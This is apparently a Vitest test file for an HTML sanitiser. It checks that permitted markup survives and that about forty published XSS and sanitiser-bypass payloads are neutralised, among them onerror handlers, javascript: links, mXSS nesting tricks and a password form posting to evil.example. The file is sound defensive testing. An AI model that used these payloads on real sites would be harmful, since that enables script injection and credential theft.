// Cleaning of HTML: what writers need stays, what attackers have tried goes (Q-33, UPLOAD-09).
import { describe, expect, it } from 'vitest';
import { cleanHtml } from './html';

describe('what stays', () => {
  it.each([
    '<p>Hello <strong>you</strong>, <em>see</em> <code>x &lt; y</code></p>',
    '<ol start="3"><li>a</li><li>b</li></ol>',
    '<img src="/static/0a1b.png" alt="label" />',
    '<img src="https://pictures.example/a.png" />',
  ])('in both profiles: %s', (html) => {
    expect(cleanHtml(html, 'chat')).toBe(html);
    expect(cleanHtml(html, 'article')).toBe(html);
  });

  it('headings, tables and alignment in an article only', () => {
    const html =
      '<h2 style="text-align:center">T</h2><table><tbody><tr><td colspan="2">1</td></tr></tbody></table>';
    expect(cleanHtml(html, 'article')).toBe(html);
    expect(cleanHtml(html, 'chat')).toBe('T1');
  });

  it('EDIT-20: header levels 1 to 6 and text sizes of an article', () => {
    const html =
      '<h1>1</h1><h3>3</h3><h6>6</h6><p><span style="font-size:18px">a</span><span style="font-size:1.5em">b</span></p>';
    expect(cleanHtml(html, 'article')).toBe(html);
    expect(cleanHtml('<p style="font-size:900px;position:fixed">x</p>', 'article')).toBe('<p>x</p>');
  });

  it('links to the web, mail and uploads, which tell the other side nothing', () => {
    const rel = 'rel="noopener noreferrer nofollow"';
    expect(cleanHtml('<a href="https://x.example/?a=1&amp;b=2">x</a>', 'chat')).toBe(
      `<a href="https://x.example/?a=1&amp;b=2" ${rel}>x</a>`,
    );
    expect(cleanHtml('<a href="mailto:a@b.example" rel="opener">x</a>', 'chat')).toBe(
      `<a href="mailto:a@b.example" ${rel}>x</a>`,
    );
    expect(cleanHtml('<a href="/ipfs/0a.pdf" target="_top">x</a>', 'chat')).toBe(
      `<a href="/static/0a.pdf" ${rel}>x</a>`,
    );
  });

  it('UPLOAD-09: pictures of /ipfs are those of /static', () => {
    expect(cleanHtml('<img src="/ipfs/abc.png">', 'chat')).toBe('<img src="/static/abc.png" />');
    expect(
      cleanHtml(
        '<video src="/ipfs/abc.mp4" poster="/ipfs/abc.png" title="abc.mp4" autoplay></video>',
        'article',
      ),
    ).toBe('<video src="/static/abc.mp4" title="abc.mp4" controls poster="/static/abc.png"></video>');
  });
});

/** Ways around cleaners that were published; none may leave anything that runs or loads. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="/static/a.png" onload="alert(1)" srcset="https://evil.example/x 2x">',
  '<img src="/static/../admin/x">',
  '<img src="/static/a/../../x.png">',
  '<img src="//evil.example/x.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="http://evil.example/x.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/javaplus/admin/login/logout">x</a>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<base href="https://evil.example"><link rel=stylesheet href=x><meta http-equiv=refresh content="0;url=x">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<p style="text-align:expression(alert(1))">x</p>',
  '<div id="app" class="login" data-x="1" aria-label="x" contenteditable>x</div>',
  '<video src="/static/a.mp4" onplay=alert(1)><source src=x onerror=alert(1)></video>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p>\u0000<img src=x onerror\u0000=alert(1)></p>',
];

describe('what goes', () => {
  it.each(attacks)('%s', (html) => {
    for (const profile of ['article', 'chat'] as const) {
      const cleaned = cleanHtml(html, profile);
      const tags = cleaned.match(/<[^>]*>/g)?.join('') ?? '';
      expect(tags).not.toMatch(/\son\w+|script|srcdoc|expression|position|url\(|data:|evil\.example|\.\./i);
      expect(tags).not.toMatch(
        /<\/?(?:svg|math|style|form|input|iframe|object|base|meta|link|template|source)/i,
      );
      expect(tags).not.toMatch(/\b(?:id|class|data-\w+|contenteditable|srcset|autoplay)=/i);
      expect(tags).not.toMatch(/\b(?:href|src)="(?!\/static\/[\w.-]+"|https:|mailto:)/i);
      expect(cleanHtml(cleaned, profile)).toBe(cleaned);
    }
  });

  it('nesting that no person writes, without hanging', () => {
    expect(() => cleanHtml('<div>'.repeat(50_000) + 'x', 'chat')).toThrow(/bad_input/);
    const cleaned = cleanHtml('<div>'.repeat(100) + 'x', 'chat');
    expect(cleaned.match(/<div>/g)?.length).toBeLessThanOrEqual(50);
  });
});
